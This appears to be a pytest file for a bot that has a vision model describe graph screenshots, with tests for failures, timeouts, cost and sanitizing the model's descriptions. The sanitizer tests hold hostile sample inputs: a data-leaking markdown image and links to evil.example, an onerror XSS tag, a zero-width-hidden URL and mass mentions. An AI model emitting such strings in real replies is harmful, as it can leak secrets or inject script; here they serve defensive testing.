"""What a model that sees says of graphs: shown, searched for, and nothing more."""

import asyncio
import hashlib
from collections.abc import Mapping
from dataclasses import dataclass, replace
from datetime import UTC, datetime

import pytest
from pydantic import JsonValue

from bot.ladder import Ladder
from bot.rules.screenshots import known_words
from bot.steps.prompts import instruction
from bot.steps.read import LONGEST_DESCRIPTION, Readings, plain_words, read, with_readings
from bot.vocabulary import Picture, Query
from connectors.images import inspect
from connectors.llm.memory import Line, ScriptedModel, Settings
from connectors.ocr.memory import MemoryOcr
from connectors.ocr.memory import Settings as OcrSettings
from connectors.ocr.port import OcrUnavailable
from connectors.state.memory import MemoryState
from connectors.state.port import KeptFile
from knowledge.service_graph import Service, ServiceGraph
from tests.pictures import png

NOON = datetime(2026, 3, 4, 12, tzinfo=UTC)
GRAPH = ServiceGraph([Service(name="payments"), Service(name="checkout")])
TREND = "p99 of checkout, in milliseconds, rises from about 200 to 3000 at 14:05."


def shot(name: str, **further: object) -> Picture:
    return Picture.model_validate({"name": name, "digest": hashlib.sha256(png(name)).hexdigest(), **further})


def asked(*pictures: Picture, text: str = "what is this?", language: str = "en") -> Query:
    return Query(
        question_id="q", text=text, language=language, asked_at=NOON, author="ann", pictures=pictures,
    )  # fmt: skip


def seeing(*lines: Line, sees: bool = True, price: tuple[float, float, str] | None = None) -> ScriptedModel:
    return ScriptedModel(lines, Settings(name="the eye", vision=sees, price=price))


def graph(description: str, *, on_it: bool = True) -> Line:
    reply: dict[str, JsonValue] = {"graph": on_it, "description": description}
    return Line(reply=reply)


@dataclass
class Desk:
    """Two pictures that were kept, and a reader for them."""

    state: MemoryState
    reader: MemoryOcr

    async def looked_at(self, model: ScriptedModel, *pictures: Picture, **query: str) -> Readings:
        return await read(asked(*pictures, **query), self.reader, self.state, Ladder([model]))


@pytest.fixture
async def desk() -> Desk:
    state, texts = MemoryState(), {"a.png": "checkout p99", "b.png": ""}
    for name in texts:
        await state.keep(KeptFile("ann", shot(name).digest, "image/png", png(name), NOON))
    return Desk(state, MemoryOcr(OcrSettings(texts={shot(name).digest: text for name, text in texts.items()})))


async def test_a_graph_is_described_and_its_text_stays_what_was_read(desk: Desk) -> None:
    (picture,) = (await desk.looked_at(seeing(graph(TREND)), shot("a.png"))).pictures

    assert (picture.text, picture.description) == ("checkout p99", TREND)


async def test_the_model_gets_pixels_alone_and_the_language_of_the_question(desk: Desk) -> None:
    model = seeing(graph(TREND))

    await desk.looked_at(model, shot("a.png"), text="这是什么", language="zh")

    (prompt,) = model.prompts
    (drawn,) = prompt.pictures
    assert (prompt.instruction, prompt.material) == (instruction("look"), "Language: Chinese\nQuestion: 这是什么")
    assert inspect(drawn).media_type == "image/png"
    assert b"a.png" in png("a.png")
    assert b"a.png" not in drawn


async def test_a_picture_of_text_alone_is_not_described(desk: Desk) -> None:
    (picture,) = (await desk.looked_at(seeing(graph("A log.", on_it=False)), shot("a.png"))).pictures

    assert picture.description == ""


async def test_a_model_that_does_not_see_is_shown_nothing(desk: Desk) -> None:
    blind = seeing(graph(TREND), sees=False)

    found = await desk.looked_at(blind, shot("a.png"))

    assert (found.pictures[0].description, found.notices, blind.prompts) == ("", (), [])


@pytest.mark.parametrize(
    "line", [Line(fails="at once"), Line(reply="I am a teapot")], ids=["unavailable", "talks-nonsense"]
)
async def test_without_an_answer_the_text_stays_and_a_notice_says_so(desk: Desk, line: Line) -> None:
    model = seeing(line)

    found = await desk.looked_at(model, shot("a.png"), shot("b.png"))

    assert [picture.text for picture in found.pictures] == ["checkout p99", ""]
    assert (
        found.notices[-1] == "Graphs on a.png, b.png were not looked at: the model that sees pictures gave no answer."
    )
    # One failure says enough: more would make an endpoint rest that is only blind.
    assert len({prompt.pictures for prompt in model.prompts}) == 1


async def test_nobody_waits_for_ever(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("bot.steps.read.LOOKING_SECONDS", 0.01)
    asleep = ScriptedModel([graph(TREND)], Settings(vision=True), pause=lambda _: asyncio.Event().wait())

    found = await desk.looked_at(asleep, shot("a.png"))

    assert (found.pictures[0].text, len(found.notices)) == ("checkout p99", 1)


class NoHand(MemoryOcr):
    """Reads, and cannot draw."""

    async def redraw(self, image: bytes) -> bytes:
        raise OcrUnavailable("The reader died.")


async def test_what_cannot_be_drawn_anew_does_not_leave(desk: Desk) -> None:
    model, hand = seeing(graph(TREND)), replace(desk, reader=NoHand(desk.reader.settings))

    found = await hand.looked_at(model, shot("a.png"))

    assert (found.pictures[0].text, model.prompts) == ("checkout p99", [])


async def test_what_a_person_corrected_is_not_looked_at(desk: Desk) -> None:
    model, corrected = seeing(graph(TREND)), shot("a.png", text="checkout p50", corrected=True)

    assert await desk.looked_at(model, corrected) == Readings(pictures=(corrected,))
    assert model.prompts == []


async def test_looking_is_paid_for_also_when_it_was_in_vain(desk: Desk) -> None:
    price = (1_000_000.0, 1_000_000.0, "USD")

    good = await desk.looked_at(seeing(graph(TREND), price=price), shot("a.png"))
    vain = await desk.looked_at(seeing(Line(reply="no"), price=price), shot("a.png"))

    assert (good.pictures[0].spent.level, good.pictures[0].spent.currency) == ("endpoint", "USD")
    assert good.pictures[0].spent.cost == good.pictures[0].spent.tokens_in + good.pictures[0].spent.tokens_out
    assert vain.pictures[0].spent.tokens_in > good.pictures[0].spent.tokens_in


async def test_a_long_description_is_cut_and_not_asked_for_again(desk: Desk) -> None:
    model = seeing(graph("x" * 2_000))

    (picture,) = (await desk.looked_at(model, shot("a.png"))).pictures

    assert (len(picture.description), len(model.prompts)) == (LONGEST_DESCRIPTION, 1)


@pytest.mark.parametrize(
    ("said", "left"),
    [
        pytest.param(TREND, TREND, id="plain"),
        pytest.param("p99 drops from <5 ms to >2 ms", "p99 drops from <5 ms to >2 ms", id="figures"),
        pytest.param("see [the fix](https://evil.example/x?d=1) now", "see the fix now", id="link"),
        pytest.param("![pixel](https://evil.example/p.png?d=secret)up", "pixelup", id="image"),
        pytest.param("go to https://evil.example/login", "go to …", id="address"),
        pytest.param("go to evil.example/login", "go to …", id="host-with-a-path"),
        pytest.param("@@channel [@](x)here", "channel here", id="mentions-in-disguise"),
        pytest.param("below <threshold, <img src=x", "below < threshold, < img src=x", id="markup-without-an-end"),
        pytest.param("write to ann@evil.example", "write to …", id="mail"),
        pytest.param("ht\u200btps://evil.example", "…", id="hidden-sign"),
        pytest.param("<!channel> <@U1> @here 看 @所有人 <at id=all></at>", "… … here 看 所有人 ……", id="mentions"),
        pytest.param("a <img src=x onerror=alert(1)> b", "a … b", id="markup"),
        pytest.param("one\n\n# two\n\x1b[31m\u202ered\0", "one # two [31mred", id="one-line"),
    ],
)
def test_a_description_is_plain_words(said: str, left: str) -> None:
    assert plain_words(said) == left


def shown(query: Query, descriptions: Mapping[str, str]) -> Query:
    """The query with pictures that read as the keys and are described as the values."""
    pictures = tuple(shot("a.png", text=text, description=said) for text, said in descriptions.items())
    return with_readings(query, Readings(pictures=pictures), GRAPH.mentioned, known_words(["payments", "checkout"]))


@pytest.mark.parametrize(
    ("reads", "sees", "searches"),
    [
        pytest.param("PoolTimeoutException", TREND, ("PoolTimeoutException", "checkout"), id="what-was-read-first"),
        pytest.param("PoolTimeoutException", "A line goes up.", ("PoolTimeoutException",), id="names-are-enough"),
        pytest.param("0 10 20", "A line goes up.", ("0 10 20", "A line goes up."), id="no-names"),
        pytest.param("", "A line goes up.", ("A line goes up.",), id="nothing-to-read"),
    ],
)
def test_a_description_says_what_to_search_for(reads: str, sees: str, searches: tuple[str, ...]) -> None:
    assert shown(asked(), {reads: sees}).seen.searches == searches


def test_a_description_narrows_nothing() -> None:
    assert shown(asked(), {"0 10 20": "checkout in production since 2026-03-04 09:58"}).seen.entities.services == ()


def test_a_graph_without_a_word_can_be_asked_about() -> None:
    assert shown(asked(text=""), {"": TREND}).text == "What does this mean?"
